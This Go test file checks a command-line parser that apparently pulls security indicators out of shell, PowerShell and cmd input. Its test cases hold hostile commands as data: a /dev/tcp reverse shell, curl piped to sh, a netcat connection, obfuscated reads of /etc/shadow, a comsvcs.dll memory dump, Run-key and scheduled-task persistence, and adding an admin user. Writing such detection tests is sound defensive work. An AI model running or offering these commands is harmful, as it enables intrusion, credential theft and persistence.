package parse

import (
	"slices"
	"strings"
	"testing"
)

// want lists the expectations of one case; empty fields are not checked.
type want struct {
	shell, platform, exe, sub string
	flags, args, exes         []string
	pipes, redirs, chains     []string
	urls, ips, domains, ports []string
	paths, reg, emails        []string
	hashes, remote, interp    []string
	lolbins, inner, wrappers  []string
	inline, background        bool
	residual                  string
}

var parseCases = []struct {
	name, line string
	want       want
}{
	{"sh single quotes are literal", `echo 'a $b \c'`,
		want{shell: "sh", exe: "echo", args: []string{`a $b \c`}}},
	{"sh double quotes keep backslash before ordinary chars", `echo "a\"b\n"`,
		want{args: []string{`a"b\n`}}},
	{"sh backslash and empty quotes are removed", `c\at /etc/sha""dow`,
		want{exe: "cat", args: []string{"/etc/shadow"}, paths: []string{"/etc/shadow"}, platform: "linux"}},
	{"sh ANSI-C quoting decodes hex escapes", `$'\x63\x61\x74' /etc/passwd`,
		want{exe: "cat"}},
	{"sh env assignments and sudo are skipped to the real executable", `FOO=1 sudo -u root nohup python3 x.py`,
		want{exe: "python3", wrappers: []string{"sudo", "nohup"}, interp: []string{"python"}}},
	{"sudo alone with a flag is the executable", `sudo -l`,
		want{exe: "sudo", flags: []string{"-l"}}},
	{"pipe, redirect and chain operators are recorded in order", `cat a | grep b > out.txt 2>&1 && rm a || true; echo x`,
		want{pipes: []string{"|"}, redirs: []string{">", "2>&1"}, chains: []string{"&&", "||", ";"},
			exes: []string{"cat", "grep", "rm", "true", "echo"}}},
	{"redirect targets are not arguments", `echo hi >> /tmp/log.txt`,
		want{args: []string{"hi"}, redirs: []string{">>"}, paths: []string{"/tmp/log.txt"}}},
	{"here-string and here-doc operators are redirects", `cat <<EOF; grep x <<< "$v"`,
		want{redirs: []string{"<<", "<<<"}}},
	{"trailing & in sh is a background job, not a chain", `sleep 100 &`,
		want{background: true, chains: []string{}}},
	{"subshells are parsed as inner segments", "echo $(whoami) `id` | (cd /tmp; ls)",
		want{inner: []string{"whoami", "id"}, exes: []string{"echo", "cd", "ls", "whoami", "id"}}},
	{"bash -c code is inline and parsed", `bash -c 'curl -s http://x.example.com/a | sh'`,
		want{inline: true, interp: []string{"bash", "sh"}, inner: []string{"curl", "sh"},
			urls: []string{"http://x.example.com/a"}, domains: []string{"x.example.com"}}},
	{"reverse shell through /dev/tcp yields host and port", `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`,
		want{ips: []string{"10.0.0.1"}, ports: []string{"4444"}, redirs: []string{">&", "0>&1"}}},
	{"nc host port gives a port, -w value does not", `nc -w 3 evil.example.org 9001`,
		want{domains: []string{"evil.example.org"}, ports: []string{"9001"}, lolbins: []string{"nc"}}},
	{"ports come from -p flags and host:port", `ssh -p 2222 admin@10.1.2.3 && curl 10.0.0.9:8443`,
		want{ports: []string{"2222", "8443"}, ips: []string{"10.1.2.3", "10.0.0.9"}, remote: []string{"admin@10.1.2.3"}}},
	{"scp host:path is a remote target and its path a file", `scp file.txt user@remote:/home/user/`,
		want{remote: []string{"user@remote:/home/user/"}, paths: []string{"file.txt", "/home/user/"}}},
	{"e-mail addresses are not remote targets", `mail -s hi bob@example.com`,
		want{emails: []string{"bob@example.com"}, remote: []string{}}},
	{"subcommands are found after global flags", `docker -D run --rm -it alpine sh`,
		want{exe: "docker", sub: "run", flags: []string{"-D", "--rm", "-it"}, args: []string{"alpine", "sh"}}},
	{"IPv6 addresses are validated", `ping6 fe80::1 ; curl http://[2001:db8::1]:8080/`,
		want{ips: []string{"fe80::1", "2001:db8::1"}, ports: []string{"8080"}}},
	{"invalid IPv4 octets are refused", `ping 300.1.1.1 1.2.3.4.5`,
		want{ips: []string{}}},
	{"file-like names and .NET members are not domains", `powershell [System.Net.WebClient]::new() ; notepad a.ps1 evil.com`,
		want{domains: []string{"evil.com"}}},
	{"hashes of exact lengths are found", `certutil -hashfile x.exe 44d88612fea8a8f36de82e1278abb02f`,
		want{hashes: []string{"44d88612fea8a8f36de82e1278abb02f"}, lolbins: []string{"certutil"}}},
	{"PowerShell single quotes double '' and backticks escape", "Write-Host 'it''s' \"a`tb\" I`EX",
		want{shell: "powershell", exe: "write-host", args: []string{"it's", "a\tb", "IEX"}}},
	{"PowerShell script blocks and $() are subshells", `Get-Process | ForEach-Object { Stop-Process $_.Id } ; echo "$(whoami)"`,
		want{shell: "powershell", inner: []string{"stop-process", "whoami"}}},
	{"PowerShell call operator is a wrapper", `& 'C:\Program Files\x\tool.exe' -arg 1`,
		want{shell: "powershell", exe: "tool", wrappers: []string{"&"}, paths: []string{`C:\Program Files\x\tool.exe`}}},
	{"PowerShell encoded command is inline code", `powershell.exe -NoP -W Hidden -Enc SQBFAFgA`,
		want{exe: "powershell", inline: true, interp: []string{"powershell"}, platform: "windows"}},
	{"-ExecutionPolicy is not an encoded command", `powershell -ex bypass -File a.ps1`,
		want{inline: false}},
	{"PowerShell registry drive is a registry key", `Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value C:\x.exe`,
		want{reg: []string{`HKCU:\Software\Microsoft\Windows\CurrentVersion\Run`}, paths: []string{`C:\x.exe`}}},
	{"cmd carets are escapes and & is a chain", `c^m^d /c who^ami & net user`,
		want{shell: "cmd", exe: "cmd", chains: []string{"&"}, inline: true, exes: []string{"cmd", "net", "whoami"}}},
	{"cmd quoted inline code is parsed", `cmd.exe /c "whoami & net user admin P@ss /add"`,
		want{inner: []string{"whoami", "net"}, remote: []string{}, inline: true}},
	{"cmd @ prefix and windows flags", `@echo off`,
		want{exe: "echo", args: []string{"off"}}},
	{"Windows flags are /x but Unix paths are not flags", `reg query HKLM\SOFTWARE /s /v x`,
		want{sub: "query", flags: []string{"/s", "/v"}, reg: []string{`HKLM\SOFTWARE`}}},
	{"schtasks verb is the subcommand", `schtasks /create /tn t /tr "powershell -c iex x" /sc onlogon`,
		want{sub: "create", inner: []string{"powershell", "iex"}, inline: true, lolbins: []string{"schtasks"}}},
	{"UNC paths are remote targets and file paths", `copy \\10.1.1.5\c$\x.exe C:\Windows\Temp\`,
		want{paths: []string{`\\10.1.1.5\c$\x.exe`, `C:\Windows\Temp\`}, remote: []string{`\\10.1.1.5\c$\x.exe`}, ips: []string{"10.1.1.5"}}},
	{"%VAR% paths are Windows paths", `start %TEMP%\a.exe`,
		want{paths: []string{`%TEMP%\a.exe`}}},
	{"rundll32 DLL path stops at the entry point comma", `rundll32.exe C:\Windows\System32\comsvcs.dll,MiniDump 624 C:\t\l.dmp full`,
		want{paths: []string{`C:\Windows\System32\comsvcs.dll`, `C:\t\l.dmp`}}},
	{"wmic quoted command runs cmd inline", `wmic process call create "cmd.exe /c whoami"`,
		want{sub: "process", interp: []string{"cmd"}, inline: true, lolbins: []string{"wmic"}}},
	{"platform is unknown for cross-platform tools", `whoami`,
		want{platform: "unknown"}},
	{"residual replaces values with placeholders and lower-cases", `curl -o /tmp/a/b http://Evil.COM/x 10.0.0.1 0xDEADBEEF 12345 aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=`,
		want{residual: "curl -o <PATH> <URL> <IP> <HEX> <NUM> <B64>"}},
	{"residual covers registry, GUID, e-mail, hash and domain", `reg add HKLM\Run /d {12345678-1234-1234-1234-1234567890ab} a@b.com d41d8cd98f00b204e9800998ecf8427e evil.org`,
		want{residual: "reg add <REGPATH> /d <GUID> <EMAIL> <HASH> <DOMAIN>"}},
	{"newlines separate commands and whitespace is collapsed", "ls\n  cat   x",
		want{exes: []string{"ls", "cat"}, chains: []string{";"}}},
	{"empty input gives an empty command", ``,
		want{exe: "", platform: "unknown"}},
}

func TestParse(t *testing.T) {
	for _, tc := range parseCases {
		t.Run(tc.name, func(t *testing.T) {
			c := Parse(tc.line)
			checkCommand(t, c, tc.want)
		})
	}
}

func checkCommand(t *testing.T, c *Command, w want) {
	t.Helper()
	str := func(name, got, want string) {
		if want != "" && got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	str("shell", c.Shell, w.shell)
	str("platform", c.Platform, w.platform)
	str("executable", c.Executable, w.exe)
	str("subcommand", c.Subcommand, w.sub)
	str("residual", c.Residual, w.residual)
	list := func(name string, got, want []string) {
		if want != nil && !slices.Equal(got, want) && !(len(got) == 0 && len(want) == 0) {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	var inner, wrappers []string
	for _, s := range c.Inner {
		inner = append(inner, s.Executable)
	}
	if len(c.Segments) > 0 {
		wrappers = c.Segments[0].Wrappers
	}
	for _, l := range []struct {
		name      string
		got, want []string
	}{
		{"flags", c.Flags, w.flags}, {"args", c.Args, w.args}, {"executables", c.Field("executables"), w.exes},
		{"pipes", c.Pipes, w.pipes}, {"redirects", c.Redirects, w.redirs}, {"chains", c.Chains, w.chains},
		{"urls", c.Indicators.URLs, w.urls}, {"ips", c.Indicators.IPs, w.ips},
		{"domains", c.Indicators.Domains, w.domains}, {"ports", c.Indicators.Ports, w.ports},
		{"file_paths", c.Indicators.FilePaths, w.paths}, {"registry", c.Indicators.RegistryKeys, w.reg},
		{"emails", c.Indicators.Emails, w.emails}, {"hashes", c.Indicators.Hashes, w.hashes},
		{"remote_targets", c.Indicators.RemoteTargets, w.remote}, {"interpreters", c.Interpreters, w.interp},
		{"lolbins", c.LOLBins, w.lolbins}, {"inner", inner, w.inner}, {"wrappers", wrappers, w.wrappers},
	} {
		list(l.name, l.got, l.want)
	}
	if c.InlineCode != w.inline {
		t.Errorf("inline_code = %v, want %v", c.InlineCode, w.inline)
	}
	if c.Background != w.background {
		t.Errorf("background = %v, want %v", c.Background, w.background)
	}
}

func TestParseBadInput(t *testing.T) {
	cases := map[string]string{
		"NUL bytes":                  "cat\x00 /etc/\x00passwd",
		"invalid UTF-8":              "echo \xff\xfe\xc3 x",
		"binary":                     string([]byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0xff}),
		"unterminated quotes":        `echo "abc 'def`,
		"unterminated subshell":      `echo $(ls $(pwd`,
		"deeply nested subshells":    strings.Repeat("$(", 50000),
		"deeply nested parens":       strings.Repeat("(", 50000) + strings.Repeat(")", 50000),
		"deeply nested bash -c":      strings.Repeat(`bash -c "`, 2000),
		"deeply nested script block": "iex " + strings.Repeat("{", 50000),
		"many operators":             strings.Repeat("|&;", 30000),
		"dotted run":                 strings.Repeat("a.", 40000),
		"colon path run":             strings.Repeat("a:/b", 20000),
	}
	for name, line := range cases {
		t.Run(name+" does not panic and stays bounded", func(t *testing.T) {
			c := Parse(line)
			if len(c.Residual) > 4*len(line)+16 {
				t.Errorf("residual %d bytes for %d input bytes", len(c.Residual), len(line))
			}
		})
	}
}

func TestParseTruncatesHugeInput(t *testing.T) {
	line := "echo " + strings.Repeat("A", 2*MaxInput)
	c := Parse(line)
	if !c.Truncated || c.Raw != line || len(c.Normalized) > MaxInput {
		t.Errorf("truncated=%v raw kept=%v normalized=%d bytes", c.Truncated, c.Raw == line, len(c.Normalized))
	}
}

func TestFieldReadsInnerSegments(t *testing.T) {
	c := Parse(`bash -c 'curl http://a.example.com | sh'`)
	if got := c.Field("executables"); !slices.Equal(got, []string{"bash", "curl", "sh"}) {
		t.Errorf("executables = %q", got)
	}
	for _, name := range FieldNames {
		_ = c.Field(name) // every advertised name is accepted
	}
}
